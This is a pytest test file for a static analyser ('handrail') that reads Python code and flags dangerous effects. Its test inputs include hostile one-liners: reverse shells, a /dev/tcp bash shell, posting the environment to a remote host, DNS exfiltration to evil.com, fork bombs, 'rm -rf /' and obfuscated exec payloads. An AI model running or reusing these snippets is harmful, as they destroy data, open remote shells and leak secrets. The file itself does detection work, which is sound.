"""Python code is followed far enough to say what it does, and no further."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from handrail.model.effect import Kind
from handrail.model.ordinal import Severity
from handrail.shell.inline.code import Code
from handrail.shell.inline.python import matters, read
from handrail.shell.inline.python_table import CALLS, METHODS, PREFIXES
from handrail.shell.word import OPAQUE

X = OPAQUE
CONNECT = "import os,pty,socket,subprocess as p;s=socket.socket();s.connect(('a',4444))"
DANGEROUS = {
    Kind.SECRET,
    Kind.DELETE,
    Kind.UNSEEN,
    Kind.DESTROY,
    Kind.EXHAUST,
    Kind.KILL,
    Kind.PRIVILEGE,
}


def effects(code: str) -> list[tuple[Kind, str]]:
    return [(effect.kind, effect.target) for effect in read(code).effects]


@pytest.mark.parametrize(
    ("code", "script"),
    [
        ("import os; os.system('rm -rf /etc')", "rm -rf /etc"),
        ("import os as o; o.popen('ls').read()", "ls"),
        ("from os import system as s; s('id')", "id"),
        ("from os import *; system('id')", "id"),
        ("__import__('os').system('id')", "id"),
        ("getattr(__import__('o'+'s'),'sys'+'tem')('id')", "id"),
        ("import importlib; importlib.import_module('os').system('id')", "id"),
        ("import sys; sys.modules['os'].system('id')", "id"),
        ("import os; os.__dict__['system']('id')", "id"),
        ("import os; vars(os)['system']('id')", "id"),
        ("import posixpath; posixpath.os.system('id')", "id"),
        ("import ｏｓ; ｏｓ.system('id')", "id"),
        ("import subprocess; subprocess.run('rm x', shell=True)", "rm x"),
        ("import subprocess; subprocess.check_output(['rm x'], shell=True)", "rm x"),
        ("import subprocess as s; s.getoutput('id')", "id"),
        ("import commands; commands.getoutput('id')", "id"),
        ("import subprocess; subprocess.run(['bash'], input='rm -rf /', text=True)", "rm -rf /"),
        ("import subprocess; subprocess.run('ls', cwd='/etc')", "cd /etc && ls"),
        ("import os; os.chdir('/srv'); os.system('ls')", "cd /srv && ls"),
        ("import os, subprocess as s; s.run(['ls', os.environ['HOME']+'/a b'])", "ls ~/'a b'"),
        ("import pty; pty.spawn('/bin/sh')", "/bin/sh"),
        ("import ctypes as c; c.cdll.LoadLibrary('libc.so.6').system(b'rm -rf /')", "rm -rf /"),
        ("import ctypes; ctypes.CDLL(None).system(b'id')", "id"),
        ("import asyncio\nasync def f(): await asyncio.create_subprocess_shell('id')", "id"),
        ("exec('imp'+'ort os; os.sys'+'tem(\"rm x\")')", "rm x"),
        ("().__class__.__base__.__subclasses__()[9].__init__.__globals__['system']('id')", "id"),
        ("import os; (lambda f: f('id'))(os.system)", "id"),
        ("import code; __builtins__.__dict__['__import__']('os').system('id')", "id"),
        ("import os; list(map(os.system, ['id']))", "id"),
        ("import os, threading; threading.Thread(target=os.system, args=('id',)).start()", "id"),
        ("import os, atexit; atexit.register(os.system, 'id')", "id"),
        ("print 'x'; import os; os.system('id')", "id"),
    ],
)
def test_a_command_line_that_goes_to_a_shell_is_found(code: str, script: str) -> None:
    assert read(code).scripts == (script,)


@pytest.mark.parametrize(
    ("expression", "script"),
    [
        ("'rm ' + '-rf ' + d", "rm -rf /etc"),
        ("f'rm -rf {d}/x'", "rm -rf /etc/x"),
        ("'rm -rf %s' % d", "rm -rf /etc"),
        ("'rm %s %s' % ('-rf', d)", "rm -rf /etc"),
        ("'rm -rf {}'.format(d)", "rm -rf /etc"),
        ("'rm -rf {0}{b}'.format(d, b='/x')", "rm -rf /etc/x"),
        ("' '.join(['rm', '-rf', d])", "rm -rf /etc"),
        ("'cte/ fr- mr'[::-1]", "rm -rf /etc"),
        ("'rm -rX'.replace('X', 'f')", "rm -rf"),
        ("f'rm -rf {unknown}'", f"rm -rf {X}"),
        ("'rm -rf ' + unknown()", f"rm -rf {X}"),
        ("cmd(d)", "rm -rf /etc"),
    ],
)
def test_texts_are_put_together(expression: str, script: str) -> None:
    code = f"import os\nd='/etc'\ndef cmd(x): return 'rm -rf ' + x\nos.system({expression})"
    assert read(code).scripts == (script,)


def test_every_value_of_a_loop_and_of_a_branch_is_taken() -> None:
    assert read("import os\nfor d in ['/a','/b']: os.system(f'rm {d}')").scripts == (
        "rm /a",
        "rm /b",
    )
    assert set(effects("import os\np='/a'\nif x: p='/b'\nos.remove(p)")) == {
        (Kind.DELETE, "/a"),
        (Kind.DELETE, "/b"),
    }
    assert set(effects("import os\np='/a'\ntry: p='/b'\nexcept E: p='/c'\nos.remove(p)")) == {
        (Kind.DELETE, "/a"),
        (Kind.DELETE, "/b"),
        (Kind.DELETE, "/c"),
    }
    assert read("import os\nx = {k: os.system(k) for k in ['id']}").scripts == ("id",)


@pytest.mark.parametrize(
    ("code", "argv"),
    [
        ("import subprocess as s; s.run(['rm','-rf','/etc'])", ("rm", "-rf", "/etc")),
        ("import subprocess\na=['rm']\na+=['-rf']\nsubprocess.call(a+[d])", ("rm", "-rf", X)),
        ("import os; os.execvp('rm',['rm','-rf','/'])", ("rm", "-rf", "/")),
        ("import os; os.execl('/bin/rm','rm','-rf','/')", ("/bin/rm", "-rf", "/")),
        ("import os; os.spawnlp(os.P_WAIT,'rm','rm','x')", ("rm", "x")),
        ("import os; os.posix_spawn('/bin/rm',['rm','x'],{})", ("/bin/rm", "x")),
        ("import pty; pty.spawn(['rm','x'])", ("rm", "x")),
        ("from sh import rm; rm('-rf','/')", ("rm", "-rf", "/")),
        (
            "import paramiko; c=paramiko.SSHClient(); c.connect('h'); c.exec_command('rm x')",
            ("ssh", "h", "rm x"),
        ),
    ],
)
def test_a_program_that_is_started_without_a_shell_is_found(
    code: str, argv: tuple[str, ...]
) -> None:
    assert read(code).calls == (argv,)


@pytest.mark.parametrize(
    ("code", "kind", "target"),
    [
        ("import os; os.remove('a')", Kind.DELETE, "a"),
        ("import os; os.unlink(path='a')", Kind.DELETE, "a"),
        ("from shutil import rmtree as r; r('/'+'etc')", Kind.DELETE, "/etc"),
        ("import shutil, pathlib; shutil.rmtree(pathlib.Path.home())", Kind.DELETE, "~"),
        ("from pathlib import Path; (Path('/a')/'b').unlink()", Kind.DELETE, "/a/b"),
        ("from pathlib import Path; Path('/a/b').parent.rmdir()", Kind.DELETE, "/a"),
        ("import pathlib; pathlib.PosixPath('a').unlink()", Kind.DELETE, "a"),
        ("from pathlib import Path\nfor p in Path('/e').rglob('*'): p.unlink()", Kind.DELETE,
         "/e/**/*"),
        ("import glob,os\nfor f in glob.glob('/e/*'): os.remove(f)", Kind.DELETE, "/e/*"),
        ("import os\nfor r,d,f in os.walk('/e'):\n for x in f: os.remove(os.path.join(r,x))",
         Kind.DELETE, "/e/**/*"),
        ("import os; os.remove(os.path.join(os.environ['HOME'],'a'))", Kind.DELETE, "~/a"),
        ("import os; os.remove(os.path.expanduser('~/a'))", Kind.DELETE, "~/a"),
        ("import os; os.remove(os.getenv('HOME') + '/a')", Kind.DELETE, "~/a"),
        ("import tempfile,shutil; shutil.rmtree(tempfile.mkdtemp())", Kind.DELETE, f"/tmp/{X}"),
        ("import os; os.chdir('/'); os.rmdir('etc')", Kind.DELETE, "/etc"),
        ("eval(compile(\"__import__('shutil').rmtree('/e')\",'x','eval'))", Kind.DELETE, "/e"),
        ("import concurrent.futures as c, shutil; c.X().submit(shutil.rmtree, '/e')", Kind.DELETE,
         "/e"),
        ("open('a','w')", Kind.WRITE, "a"),
        ("with open('a', mode='ab') as f: f.write(b'')", Kind.WRITE, "a"),
        ("from pathlib import Path; Path('a').write_text('x')", Kind.WRITE, "a"),
        ("import os; os.rename('a','b')", Kind.WRITE, "b"),
        ("import shutil; shutil.copy('a','b')", Kind.READ, "a"),
        ("print(open('/etc/passwd').read())", Kind.READ, "/etc/passwd"),
        ("import os; os.symlink('/etc/passwd','x')", Kind.LINK, "/etc/passwd"),
        ("import os; os.chown('a',0,0)", Kind.PERMIT, "a"),
        ("import requests; requests.get('http://a.b')", Kind.FETCH, "http://a.b"),
        ("import requests as r; r.Session().post('http://a.b', json={})", Kind.SEND, "http://a.b"),
        ("import urllib.request as u; u.urlopen('http://a.b')", Kind.FETCH, "http://a.b"),
        ("import urllib.request as u; u.urlopen('http://a.b', data=b'x')", Kind.SEND, "http://a.b"),
        ("from urllib.request import Request as R, urlopen\nurlopen(R('http://a', data=b'x'))",
         Kind.SEND, "http://a"),
        ("import socket;s=socket.socket();s.connect(('a.b',4));s.send(b'x')", Kind.SEND, "a.b:4"),
        ("from http.client import HTTPSConnection as H\nc=H('a.b')\nc.request('POST','/',x)",
         Kind.SEND, "a.b"),
        ("import smtplib; s=smtplib.SMTP('m'); s.sendmail('a','b','c')", Kind.SEND, "m"),
        ("import socket; socket.gethostbyname(data + '.evil.com')", Kind.SEND, f"{X}.evil.com"),
        ("import sqlite3; sqlite3.connect('a.db').execute('DROP TABLE t')", Kind.DESTROY,
         "DROP TABLE t"),
        ("cur.execute('delete from users')", Kind.DESTROY, "delete from users"),
        ("import redis; redis.Redis().flushall()", Kind.DESTROY, "all keys"),
        ("import os; os.setuid(0); os.system('sh')", Kind.PRIVILEGE, "os.setuid(0)"),
        ("exec(open('setup.py').read())", Kind.RUN, "setup.py"),
        ("import os; print(os.environ['AWS_SECRET_ACCESS_KEY'])", Kind.SECRET,
         "AWS_SECRET_ACCESS_KEY"),
        ("import os; print(dict(os.environ))", Kind.SECRET, "the environment"),
    ],
)  # fmt: skip
def test_an_effect_is_found_with_its_target(code: str, kind: Kind, target: str) -> None:
    assert (kind, target) in effects(code)


@pytest.mark.parametrize(
    "code",
    [
        "import base64; exec(base64.b64decode('cHJpbnQoMSk='))",
        "import os,base64; os.system(base64.b64decode('cm0gLXJmIC8='))",
        "exec(compile(bytes([105,109,112,111,114,116,32,111,115]),'','exec'))",
        "exec(''.join(map(chr,[112,97,115,115])))",
        "exec(''.join([chr(c ^ 1) for c in data]))",
        "exec(bytes.fromhex('70617373'))",
        "import codecs; exec(codecs.decode('cnff','rot13'))",
        "import marshal; exec(marshal.loads(data))",
        "import zlib; exec(zlib.decompress(data))",
        "d = lambda s: ''.join(chr(ord(c) - 1) for c in s)\nexec(d('qbtt'))",
        "import requests; exec(requests.get('http://a/b').text)",
        "import urllib.request as u; exec(u.urlopen('http://a/b').read().decode())",
        "import socket; s=socket.create_connection(('a',1)); exec(s.recv(99))",
        "import pickle, requests; pickle.loads(requests.get('http://a').content)",
        "import sys; exec(sys.stdin.read())",
        "import os; getattr(os, name)('x')",
        "().__class__.__base__.__subclasses__()[133]('rm -rf /',shell=True)",
        "os.system('x'",
        "import os; os.x = " + "(" * 100_000,
        "import os; os.x = " + "-" * 100_000 + "1",
        "import os; os.x = 1" + "+1" * 100_000,
        "import os; os.x = a" + ".b" * 100_000,
    ],
)
def test_what_nobody_can_see_before_it_runs_is_unseen(code: str) -> None:
    unseen = [effect for effect in read(code).effects if effect.kind is Kind.UNSEEN]
    assert unseen
    assert all(effect.instead for effect in unseen)


def test_hidden_text_is_also_read_where_it_can_be_decoded() -> None:
    code = "import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))"
    assert read(code).scripts == ("id",)


@pytest.mark.parametrize(
    ("code", "kind"),
    [
        ("import os\nwhile True: os.fork()", Kind.EXHAUST),
        ("import os; [os.fork() for _ in iter(int, 1)]", Kind.EXHAUST),
        ("import os\ndef f():\n os.fork()\n f()\nf()", Kind.EXHAUST),
        ("import os; os.kill(-1, 9)", Kind.KILL),
        ("import os, requests; requests.post('http://a', json=dict(os.environ))", Kind.SEND),
        ("import os, requests; requests.get(f'http://a/?{os.environ}')", Kind.SEND),
        (f"{CONNECT}\n[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')", Kind.UNSEEN),
        (f"{CONNECT}\np.call(['/bin/sh','-i'],stdin=s.fileno())", Kind.UNSEEN),
        ("import os; os.system('bash -i >& /dev/tcp/1.2.3.4/5 0>&1')", Kind.UNSEEN),
    ],
)  # fmt: skip
def test_the_worst_is_critical(code: str, kind: Kind) -> None:
    assert (kind, Severity.CRITICAL) in {(e.kind, e.severity) for e in read(code).effects}


def test_a_deleted_tree_is_recursive_and_an_unknown_target_opaque() -> None:
    tree = read("import shutil; shutil.rmtree('/srv/' + name)").effects[0]
    assert (tree.recursive, tree.opaque, tree.target) == (True, True, f"/srv/{X}")


@pytest.mark.parametrize(("mode", "severity"), [("0o777", Severity.HIGH), ("0o644", Severity.LOW)])
def test_permissions_for_everybody_are_high(mode: str, severity: Severity) -> None:
    assert read(f"import os; os.chmod('a', {mode})").effects[0].severity is severity


@pytest.mark.parametrize(
    "code",
    [
        "import numpy as np; print(np.arange(5))",
        "print('rm -rf /')",
        "import shlex; print(shlex.split('rm -rf /tmp/x'))",
        "import re; print(bool(re.search(r'rm\\s+-rf', 'rm -rf /')))",
        "import os\nos.environ['DJANGO_SETTINGS_MODULE'] = 'settings'\nimport django",
        "import sys, os; sys.path.insert(0, os.path.abspath('src'))",
        "cmds = ['rm -rf /', 'git reset --hard']\nfor c in cmds:\n    print(c, len(c))",
        "x = 'import os; os.system(1)'  # os.system('rm')",
        "import shutil; print(shutil.which('rm'))",
        "from x import evaluate; evaluate('rm -rf /')",
        "import os; print(os.listdir('.'), os.path.exists('a'))",
        "eval(repr([1, 2]))",
        "import ast; print(ast.literal_eval('[1]'))",
        "import sqlite3; sqlite3.connect(':memory:').execute('DROP TABLE t')",
        "cur.execute('DELETE FROM t WHERE id = 1')",
        "client.post('/api', data={}); self.remove('x'); queue.unlink('y'); model.eval()",
        "import os; os.kill(pid, 0)",
        "%timeit x.y()",
        "import base64; print(base64.b64decode('eA=='))",
        "import os; assert os.sep == '/'",
        "import os; print(os.environ.get('PATH'), os.environ['HOME'])",
    ],
)
def test_ordinary_code_does_nothing_dangerous(code: str) -> None:
    result = read(code)
    assert not {effect.kind for effect in result.effects} & DANGEROUS
    assert not result.scripts
    assert not result.calls


def test_unknown_parts_of_the_command_line_may_stand_anywhere() -> None:
    assert read(f"import os; os.system({X})").scripts == (X,)
    assert read(f"import os; os.system('rm -rf {X}')").scripts == (f"rm -rf {X}",)


def test_code_without_any_known_name_is_not_parsed() -> None:
    assert not matters("import numpy as np; print(np.arange(5))")
    assert read("((((") == Code()


def test_every_name_in_the_tables_gets_past_the_first_look() -> None:
    harmless = {"str", "chr", "unichr", "bytes", "bytearray", "input", "raw_input", "yaml", "sys"}
    harmless |= {"archive", "libc", "socket", "ssh", "database", "memory", "sqlalchemy", "psycopg"}
    harmless |= {"psycopg2", "django", "print", "pprint", "pp"}
    for name in (*CALLS, *PREFIXES):
        skipped = name.startswith(("os.path.", "os.getcwd", "os.environ.setdefault"))
        root = name.partition(".")[0]
        assert skipped or root in harmless or matters(f"{name}('x')"), name
    for name in METHODS:
        assert name == "wrap_socket" or matters(f"thing.{name}('x')"), name


def test_a_hundred_lines_without_a_known_name_cost_next_to_nothing() -> None:
    lines = [f"def test_{i}(order):\n    assert order.total == {i} * 2" for i in range(50)]
    code = "\n".join(lines)
    start = time.perf_counter()
    for _ in range(10):
        read(code)
    assert (time.perf_counter() - start) / 10 < 0.005


@given(st.text())
def test_no_text_makes_it_raise(text: str) -> None:
    read(text)


_PIECES = st.sampled_from(
    [
        *"os . system ( ) ' \" [ ] { } : = + % f' import from as lambda exec eval for in".split(),
        *"def_x(a): while_True: os.fork open subprocess.run Path / * ** -1 0o777".split(),
        *("join", "format", "shell=True", "\n", " ", "\t", OPAQUE, "'a'", "b'x'", "if x:\n "),
    ]
)


@given(st.lists(_PIECES, max_size=30).map("".join))
def test_no_code_makes_it_raise(code: str) -> None:
    read("import os\n" + code)
